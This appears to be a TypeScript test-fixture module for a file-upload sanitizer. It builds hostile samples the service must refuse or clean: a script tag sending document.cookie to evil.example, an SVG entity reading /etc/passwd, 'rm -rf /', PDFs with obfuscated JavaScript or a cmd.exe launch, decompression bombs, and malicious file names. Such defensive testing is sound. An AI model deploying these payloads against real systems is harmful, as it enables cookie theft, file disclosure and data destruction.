import { deflateSync } from 'node:zlib'
import sharp from 'sharp'

/** The test pattern that every virus scanner detects; in two halves, so that none reports this file. */
export const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${'EICAR'}-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*`

const bytes = (text: string) => Buffer.from(text, 'latin1')

/** The smallest PDF with a page; `extra` goes into its catalog, `objects` after its own objects. */
export function makePdf(extra = '', objects = ''): Buffer {
  return bytes(
    `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R${extra}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n${objects}\ntrailer<</Root 1 0 R/Size 4>>\nstartxref\n9\n%%EOF\n`,
  )
}

/** A PDF whose dangerous dictionary hides in a compressed object stream. */
export function makePackedPdf(inside: string | Buffer, type = '/Type/ObjStm'): Buffer {
  const packed = deflateSync(inside)
  const head = bytes(`4 0 obj<<${type}/N 1/First 4/Length ${packed.length}/Filter/FlateDecode>>stream\n`)
  const pdf = makePdf('', 'HERE')
  const at = pdf.indexOf('HERE')
  return Buffer.concat([pdf.subarray(0, at), head, packed, bytes('\nendstream endobj'), pdf.subarray(at + 4)])
}

const blank = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#999' }, limitInputPixels: false })

export const makeJpeg = (width = 60, height = 40) => blank(width, height).jpeg().toBuffer()
export const makePng = (width = 60, height = 40) =>
  blank(width, height).png({ compressionLevel: 9 }).toBuffer()
export const makeWebp = () => blank(60, 40).webp().toBuffer()

/** A JPEG with the place where it was taken. */
export const makeJpegWithPlace = () =>
  blank(60, 40)
    .withExif({
      IFD0: { Make: 'Phone', Copyright: 'KAVUMPUZHA-SECRET' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '9/1 18/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '76/1 27/1 0/1',
      },
    })
    .jpeg()
    .toBuffer()

/** A PNG header that claims a size without the pixels for it. */
export function claimSize(png: Buffer, width: number, height: number): Buffer {
  const lying = Buffer.from(png)
  lying.writeUInt32BE(width, 16)
  lying.writeUInt32BE(height, 20)
  // Recomputes the header's checksum, so that only the pixels are missing.
  lying.writeUInt32BE(crc32(lying.subarray(12, 29)), 29)
  return lying
}

function crc32(data: Buffer): number {
  let crc = ~0
  for (const byte of data) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return ~crc >>> 0
}

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>'
/** A dictionary that mentions a stream before there is one. */
const FAKE = '/Type/ObjStm/X(stream\n)'
const FTYP = (brand: string) =>
  Buffer.concat([Buffer.from([0, 0, 0, 24]), bytes(`ftyp${brand}\0\0\0\0mif1${brand}`)])
const ZIP = bytes('PK\x03\x04\x14\0\0\0\x08\0')

export type Hostile = { what: string; name: string; type?: string; content: Buffer }

/** Files that must be refused, each with the expected code. */
export async function makeRefusedFiles(): Promise<Array<Hostile & { code: string }>> {
  const jpeg = await makeJpeg()
  const png = await makePng()
  const kind = 'file_kind_refused'
  const list: Array<[string, string, Buffer, string, string?]> = [
    [
      'a program named as a picture',
      'photo.jpg',
      Buffer.concat([bytes('MZ'), Buffer.alloc(2_000)]),
      kind,
      'image/jpeg',
    ],
    [
      'a Linux program',
      'receipt.pdf',
      Buffer.concat([bytes('\x7fELF\x02\x01\x01'), Buffer.alloc(200)]),
      kind,
      'application/pdf',
    ],
    ['a shell script', 'help.png', bytes('#!/bin/sh\nrm -rf /\n'), kind, 'image/png'],
    ['a page with a script', 'page.jpg', bytes(`<!doctype html>${SCRIPT}`), kind, 'image/jpeg'],
    [
      'an SVG with a script',
      'logo.svg',
      bytes(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
      kind,
      'image/svg+xml',
    ],
    [
      'an SVG named as a PNG',
      'logo.png',
      bytes(`<?xml version="1.0"?><svg onload="alert(1)"/>`),
      kind,
      'image/png',
    ],
    [
      'an SVG that reads files',
      'x.svg',
      bytes('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'),
      kind,
    ],
    ['a plain text', 'note.txt', bytes('hello'), kind, 'text/plain'],
    ['the test virus as a text', 'eicar.com', bytes(EICAR), kind],
    ['a zip', 'pictures.zip', Buffer.concat([ZIP, Buffer.alloc(500)]), kind, 'application/zip'],
    ['a zip named as a PDF', 'bill.pdf', Buffer.concat([ZIP, Buffer.alloc(500)]), kind, 'application/pdf'],
    ['a gzip bomb', 'photo.jpg', deflateSync(Buffer.alloc(20_000_000)), kind, 'image/jpeg'],
    ['a gzip', 'x.gz', Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), kind],
    [
      'a 7z archive',
      'x.7z',
      Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), Buffer.alloc(100)]),
      kind,
    ],
    ['a RAR archive', 'x.rar', Buffer.concat([bytes('Rar!\x1a\x07\x01\0'), Buffer.alloc(100)]), kind],
    ['a GIF', 'dance.gif', bytes('GIF89a\x01\0\x01\0\0\0\0;'), kind, 'image/gif'],
    ['a TIFF', 'scan.tif', bytes('II*\0\x08\0\0\0\0\0'), kind, 'image/tiff'],
    ['a BMP', 'x.bmp', Buffer.concat([bytes('BM'), Buffer.alloc(100)]), kind, 'image/bmp'],
    ['a film', 'film.mp4', Buffer.concat([FTYP('isom'), Buffer.alloc(200)]), kind, 'video/mp4'],
    [
      'a HEIC picture',
      'IMG_0001.HEIC',
      Buffer.concat([FTYP('heic'), Buffer.alloc(200)]),
      'heic_refused',
      'image/heic',
    ],
    [
      'a HEIC picture named as JPEG',
      'IMG_0001.jpg',
      Buffer.concat([FTYP('heic'), Buffer.alloc(200)]),
      'heic_refused',
      'image/jpeg',
    ],
    ['a JPEG cut in the middle of its head', 'half.jpg', jpeg.subarray(0, 60), 'picture_unreadable'],
    [
      'a JPEG head with a page behind it',
      'x.jpg',
      Buffer.concat([jpeg.subarray(0, 20), bytes(SCRIPT)]),
      'picture_unreadable',
    ],
    ['a PNG head with nothing behind it', 'x.png', png.subarray(0, 8), 'file_kind_refused'],
    ['a PNG that claims a billion pixels', 'bomb.png', claimSize(png, 50_000, 50_000), 'picture_too_large'],
    ['a PNG that truly has too many pixels', 'bomb.png', await makePng(9_000, 9_000), 'picture_too_large'],
    [
      'a PDF with JavaScript',
      'bill.pdf',
      makePdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
      'pdf_active',
    ],
    [
      'a PDF with JavaScript spelt otherwise',
      'bill.pdf',
      makePdf('/OpenAction<</S/J#61vaScript>>'),
      'pdf_active',
    ],
    [
      'a PDF with JavaScript packed away',
      'bill.pdf',
      makePackedPdf('4 0 <</S/JavaScript/JS(app.alert(1))>>'),
      'pdf_active',
    ],
    // The same under type names that PDF readers still understand, or without one.
    ...['/Type/Obj#53tm', '/Type/ObjSt#6d', '/Type/#4fbjStm', '/Type/Ob#6aStm', '/Type 9 0 R', '', FAKE].map(
      (type): [string, string, Buffer, string] => [
        `a PDF with JavaScript packed away as ${type || 'nothing'}`,
        'bill.pdf',
        makePackedPdf('4 0 <</S/JavaScript/JS(app.alert(1))>>', type),
        'pdf_active',
      ],
    ),
    ['a PDF packed in an unknown way', 'bill.pdf', makePackedPdfRaw(), 'pdf_active'],
    ['a PDF that starts a program', 'bill.pdf', makePdf('/OpenAction<</S/Launch/F(cmd.exe)>>'), 'pdf_active'],
    ['a PDF that carries a file', 'bill.pdf', makePdf('/Names<</EmbeddedFiles 9 0 R>>'), 'pdf_active'],
    ['a PDF that sends a form', 'bill.pdf', makePdf('/AA<</O<</S/SubmitForm>>>>'), 'pdf_active'],
    ['a PDF with a password', 'bill.pdf', makePdf('/Encrypt 5 0 R'), 'pdf_locked'],
    ['a PDF that unpacks into 60 MB', 'bomb.pdf', makePackedPdf(Buffer.alloc(60_000_000)), 'pdf_unreadable'],
    ['a PDF without an end', 'bill.pdf', makePdf().subarray(0, 60), 'pdf_unreadable'],
    ['a page that becomes a PDF later', 'x.pdf', Buffer.concat([bytes(`<html>${SCRIPT}`), makePdf()]), kind],
  ]
  return list.map(([what, name, content, code, type]) => ({
    what,
    name,
    content,
    code,
    ...(type && { type }),
  }))
}

function makePackedPdfRaw(): Buffer {
  return makePdf(
    '',
    '4 0 obj<</Type/ObjStm/Filter/ASCIIHexDecode>>stream\n2F4A617661536372697074>\nendstream endobj',
  )
}

/** Files that must be accepted and made harmless, each with the content that must be gone. */
export async function makeTamedFiles(): Promise<Array<Hostile & { gone: string; saved: RegExp }>> {
  const jpeg = await makeJpeg()
  const png = await makePng()
  const webp = await makeWebp()
  const behind = (picture: Buffer, text: string | Buffer) =>
    Buffer.concat([picture, bytes('\n'), Buffer.from(text)])
  return [
    {
      what: 'a JPEG with a page behind it',
      name: 'x.jpg',
      content: behind(jpeg, SCRIPT),
      gone: '<script',
      saved: /^x\.jpg$/,
    },
    {
      what: 'a PNG with a zip behind it',
      name: 'x.png',
      content: behind(png, ZIP),
      gone: 'PK\x03\x04',
      saved: /^x\.png$/,
    },
    {
      what: 'a WebP with the test virus behind it',
      name: 'x.webp',
      content: behind(webp, EICAR),
      gone: 'EICAR',
      saved: /^x\.webp$/,
    },
    {
      what: 'a JPEG that says where it was taken',
      name: 'home.jpg',
      content: await makeJpegWithPlace(),
      gone: 'KAVUMPUZHA-SECRET',
      saved: /^home\.jpg$/,
    },
    {
      what: 'a JPEG named as a program',
      name: 'invoice.pdf.exe',
      content: jpeg,
      gone: '\0MZ',
      saved: /^invoice\.jpg$/,
    },
    {
      what: 'a PNG named as a page',
      name: 'x.html',
      type: 'text/html',
      content: png,
      gone: '.html',
      saved: /^x\.png$/,
    },
    {
      what: 'a path upwards',
      name: '../../../etc/passwd',
      content: jpeg,
      gone: '../',
      saved: /^passwd\.jpg$/,
    },
    {
      what: 'a path of Windows',
      name: 'C:\\Windows\\system32\\evil.dll',
      content: jpeg,
      gone: 'Windows',
      saved: /^evil\.jpg$/,
    },
    {
      what: 'a name that reads backwards',
      name: 'photo\u202Egpj.exe',
      content: jpeg,
      gone: '\u202E',
      saved: /^photogpj\.jpg$/,
    },
    {
      what: 'a name with lines',
      name: 'a\r\nset-cookie: b.jpg',
      content: jpeg,
      gone: '\r\nset',
      saved: /^[^\r\n]+\.jpg$/,
    },
    { what: 'a name of nothing', name: '....', content: jpeg, gone: '...', saved: /^picture\.jpg$/ },
    {
      what: 'a very long name',
      name: `${'a'.repeat(3_000)}.jpg`,
      content: jpeg,
      gone: 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
      saved: /^a{1,60}\.jpg$/,
    },
  ]
}
